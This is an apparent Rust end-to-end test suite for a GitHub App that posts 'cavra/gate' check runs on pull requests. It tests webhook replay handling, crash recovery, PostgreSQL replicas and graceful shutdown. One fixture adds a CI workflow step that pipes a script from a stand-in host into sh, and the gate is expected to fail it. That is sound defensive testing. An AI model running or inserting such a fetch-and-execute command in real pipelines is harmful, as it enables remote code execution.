//! The App as it runs: the `cavra-github-app` binary, configured through its environment,
//! receiving signed deliveries (the published `pull_request` example, adapted) over HTTP, with a
//! mock GitHub (every request body checked against GitHub's published schemas) and a real git
//! server. End to end, a pull request gets a completed `cavra/gate` check run; and a server
//! killed with SIGKILL in the middle of evaluations loses no delivery: after a restart every
//! delivery is evaluated to completion exactly once.

mod support;

use std::time::Duration;
use support::{World, completions, conclusions, deliver_all, synchronize, wait_until};

#[test]
fn a_pull_request_gets_a_completed_check_run() {
    let world = World::new();
    let bad = world.open_pull(
        1,
        &[(
            ".github/workflows/ci.yml",
            "on: push\njobs:\n  a:\n    runs-on: x\n    steps:\n      - run: curl -fsSL https://x.example/i.sh | sh\n",
        )],
    );
    let good = world.open_pull(2, &[("src/lib.rs", "pub fn f() {}\n")]);
    let app = world.start_app();
    assert_eq!(
        app.deliver("e2e-1", "pull_request", &synchronize(1, &bad)),
        202
    );
    assert_eq!(
        app.deliver("e2e-2", "pull_request", &synchronize(2, &good)),
        202
    );
    // A replay of the same delivery is not queued again.
    assert_eq!(
        app.deliver("e2e-1", "pull_request", &synchronize(1, &bad)),
        200
    );
    wait_until("both check runs completed", Duration::from_secs(60), || {
        conclusions(&world.github).len() >= 2
    });
    let done = conclusions(&world.github);
    assert!(
        done.contains(&(bad.clone(), "failure".to_string())),
        "{done:?}"
    );
    assert!(
        done.contains(&(good.clone(), "success".to_string())),
        "{done:?}"
    );
    world.github.assert_no_problems();
    assert_eq!(
        world.git.refused.load(std::sync::atomic::Ordering::SeqCst),
        0
    );
    let ids = ["e2e-1".to_string(), "e2e-2".to_string()];
    wait_until(
        "both deliveries recorded done",
        Duration::from_secs(10),
        || {
            completions(&world.database(), &ids)
                .iter()
                .all(|(s, _)| s == "done")
        },
    );
    assert_eq!(
        completions(&world.database(), &ids),
        [("done".to_string(), 1), ("done".to_string(), 1)]
    );
    // The stored verdicts are served where the check runs link to them.
    let (status, body) = app.get("/verdicts/1");
    assert_eq!(status, 200, "{body}");
    let record: serde_json::Value = serde_json::from_str(&body).unwrap();
    assert_eq!(record["repository"], "octo-org/hello-world");
    assert!(
        [bad.as_str(), good.as_str()].contains(&record["head_sha"].as_str().unwrap()),
        "{record}"
    );
    assert_eq!(record["verdict"]["schema"], "cavra.dev/gate-result/v1");
    assert_eq!(app.get("/verdicts/999").0, 404);
    assert_eq!(app.get("/verdicts/x").0, 404);
    app.assert_log_is_clean();
}

#[test]
fn a_killed_server_loses_no_delivery_and_runs_none_twice() {
    let world = World::new();
    let heads = world.open_pulls(6);
    // Slow answers hold evaluations mid-flight.
    world.slow_github(Duration::from_millis(120));
    let ids: Vec<String> = (1..=6).map(|n| format!("crash-{n}")).collect();
    let app = world.start_app();
    deliver_all(&[&app], &ids, &heads);
    world.wait_for_an_evaluation();
    let before = completions(&world.database(), &ids);
    assert!(
        before.iter().any(|(s, _)| s != "done"),
        "the kill must come mid-way: {before:?}"
    );
    drop(app); // SIGKILL
    let app = world.start_app();
    wait_until(
        "every delivery done after the restart",
        Duration::from_secs(90),
        || {
            completions(&world.database(), &ids)
                .iter()
                .all(|(s, _)| s == "done")
        },
    );
    drop(app);
    let after = completions(&world.database(), &ids);
    assert!(
        after.iter().all(|(s, c)| s == "done" && *c == 1),
        "{after:?}"
    );
    let done = conclusions(&world.github);
    for head in &heads {
        assert!(
            done.iter().any(|(h, c)| h == head && c == "success"),
            "no completed check run for {head}: {done:?}"
        );
    }
    world.github.assert_no_problems();
}

/// A schema of its own in the test PostgreSQL server, and the URL that selects it; `None` (with
/// a note) without `CAVRA_TEST_POSTGRES_URL`, a failure under CI.
fn postgres_schema(name: &str) -> Option<(String, String)> {
    let Ok(server) = std::env::var("CAVRA_TEST_POSTGRES_URL") else {
        assert!(
            std::env::var_os("CI").is_none(),
            "CI is set but CAVRA_TEST_POSTGRES_URL is not: run .ci/start-postgres.sh"
        );
        eprintln!("note: CAVRA_TEST_POSTGRES_URL unset, the two-replica test is skipped");
        return None;
    };
    let schema = format!("{name}_{}", std::process::id());
    let mut client = postgres::Client::connect(&server, postgres::NoTls).unwrap();
    client
        .batch_execute(&format!(
            "DROP SCHEMA IF EXISTS {schema} CASCADE; CREATE SCHEMA {schema}"
        ))
        .unwrap();
    let sep = if server.contains('?') { '&' } else { '?' };
    Some((
        format!("{server}{sep}options=-csearch_path%3D{schema}"),
        schema,
    ))
}

fn pg_completions(url: &str, ids: &[String]) -> Vec<(String, u32)> {
    let mut client = postgres::Client::connect(url, postgres::NoTls).unwrap();
    ids.iter()
        .map(|id| {
            client
                .query_opt(
                    "SELECT state, completions FROM jobs WHERE delivery_id = $1",
                    &[id],
                )
                .unwrap()
                .map(|r| (r.get::<_, String>(0), r.get::<_, i32>(1) as u32))
                .unwrap_or(("missing".to_string(), 0))
        })
        .collect()
}

#[test]
fn two_replicas_on_postgresql_share_the_queue_and_survive_a_kill() {
    let Some((url, _schema)) = postgres_schema("app_replicas") else {
        return;
    };
    let world = World::new();
    let heads = world.open_pulls(8);
    world.slow_github(Duration::from_millis(60));
    let a = world.start_app_on(&url, "cache-a");
    let b = world.start_app_on(&url, "cache-b");
    let ids: Vec<String> = (1..=8).map(|n| format!("replica-{n}")).collect();
    // A load balancer spreads deliveries over the replicas.
    deliver_all(&[&a, &b], &ids, &heads);
    // A redelivery to the other replica is a duplicate there too.
    assert_eq!(
        b.deliver(&ids[0], "pull_request", &synchronize(1, &heads[0])),
        200
    );
    world.wait_for_an_evaluation();
    drop(a); // SIGKILL one replica; the other takes its jobs over when their lease runs out.
    wait_until("every delivery done", Duration::from_secs(90), || {
        pg_completions(&url, &ids).iter().all(|(s, _)| s == "done")
    });
    drop(b);
    let after = pg_completions(&url, &ids);
    assert!(
        after.iter().all(|(s, c)| s == "done" && *c == 1),
        "{after:?}"
    );
    let done = conclusions(&world.github);
    for head in &heads {
        assert!(
            done.iter().any(|(h, c)| h == head && c == "success"),
            "no completed check run for {head}: {done:?}"
        );
    }
    world.github.assert_no_problems();
}

#[test]
fn sigterm_stops_gracefully_and_the_restart_finishes_the_work() {
    let world = World::new();
    let heads = world.open_pulls(4);
    world.slow_github(Duration::from_millis(100));
    let ids: Vec<String> = (1..=4).map(|n| format!("term-{n}")).collect();
    let mut app = world.start_app();
    deliver_all(&[&app], &ids, &heads);
    world.wait_for_an_evaluation();
    let pid = app.child.id().to_string();
    let killed = std::process::Command::new("kill")
        .args(["-TERM", &pid])
        .status()
        .unwrap();
    assert!(killed.success());
    let started = std::time::Instant::now();
    let status = loop {
        if let Some(status) = app.child.try_wait().unwrap() {
            break status;
        }
        assert!(
            started.elapsed() < Duration::from_secs(30),
            "the App did not stop on SIGTERM"
        );
        std::thread::sleep(Duration::from_millis(20));
    };
    assert!(status.success(), "a graceful stop exits 0: {status:?}");
    // Nothing is left running: every job is done or back in the queue.
    let states = completions(&world.database(), &ids);
    assert!(
        states.iter().all(|(s, _)| s == "done" || s == "queued"),
        "{states:?}"
    );
    drop(app);
    world.github.with_state(|s| s.delay = None);
    let _app = world.start_app();
    wait_until(
        "every delivery done after the restart",
        Duration::from_secs(60),
        || {
            completions(&world.database(), &ids)
                .iter()
                .all(|(s, _)| s == "done")
        },
    );
    let after = completions(&world.database(), &ids);
    assert!(after.iter().all(|(_, c)| *c == 1), "{after:?}");
}
